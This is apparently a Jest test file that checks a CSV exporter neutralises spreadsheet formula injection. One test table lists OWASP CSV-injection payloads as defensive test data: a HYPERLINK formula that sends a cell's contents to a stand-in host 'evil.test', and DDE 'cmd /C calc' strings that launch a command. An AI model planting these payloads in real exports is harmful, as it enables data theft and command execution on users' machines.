import { csvCell, toCsv } from '../../../src/framework/resource/csv';

describe('CSV export', () => {
  it.each([
    ['=SUM(A1:A2)', "'=SUM(A1:A2)"],
    ['+1', "'+1"],
    ['-1', "'-1"],
    ['@cmd', "'@cmd"],
    ['\tx', `"'\tx"`],
    ['\rx', `"'\rx"`],
    ['plain', 'plain'],
    ['a=b', 'a=b'],
  ])('neutralises formula starts: %j', (value, expected) => {
    expect(csvCell(value)).toBe(expected);
  });

  // OWASP "CSV Injection": payloads at the start of a cell and after each separator a spreadsheet
  // may split on (`,` in en, `;` in de/fr/es/pt/ru/ro, a tab), past spaces and quotes.
  it.each([
    ['=1+2', "'=1+2"],
    ['=HYPERLINK("http://evil.test?x="&A1,"Click")', `"'=HYPERLINK(""http://evil.test?x=""&A1,""Click"")"`],
    ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
    ["@SUM(1+9)*cmd|' /C calc'!A0", "'@SUM(1+9)*cmd|' /C calc'!A0"],
    ['+1+1', "'+1+1"],
    ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
    ['x;=4+4', `"x;'=4+4"`],
    ['x,=4+4', `"x,'=4+4"`],
    ['x\t=4+4', `"x\t'=4+4"`],
    ['x; =4+4', `"x; '=4+4"`],
    ['x;"=4+4', `"x;""'=4+4"`],
    ['a;+b', `"a;'+b"`],
    ['a;-b', `"a;'-b"`],
    ['a;@b', `"a;'@b"`],
    ['line\n=1+1', `"line\n'=1+1"`],
    ['a;b', '"a;b"'],
    ['1+1', '1+1'],
  ])('neutralises the OWASP payload %j wherever a cell could start', (value, expected) => {
    expect(csvCell(value)).toBe(expected);
  });

  it('quotes commas, quotes and line breaks', () => {
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('two\nlines')).toBe('"two\nlines"');
    expect(csvCell('=a,b')).toBe(`"'=a,b"`);
  });

  it('writes lists, objects, numbers and empty values', () => {
    expect(csvCell(['x', 'y'])).toBe('"x, y"');
    expect(csvCell({ a: 1 })).toBe('"{""a"":1}"');
    expect(csvCell(3)).toBe('3');
    expect(csvCell(-3)).toBe("'-3");
    expect(csvCell(null)).toBe('');
  });

  it('builds a document with a header line', () => {
    expect(
      toCsv(
        ['Name', 'Alias'],
        [
          ['A', '-x'],
          ['B', null],
        ],
      ),
    ).toBe("Name,Alias\r\nA,'-x\r\nB,");
  });
});
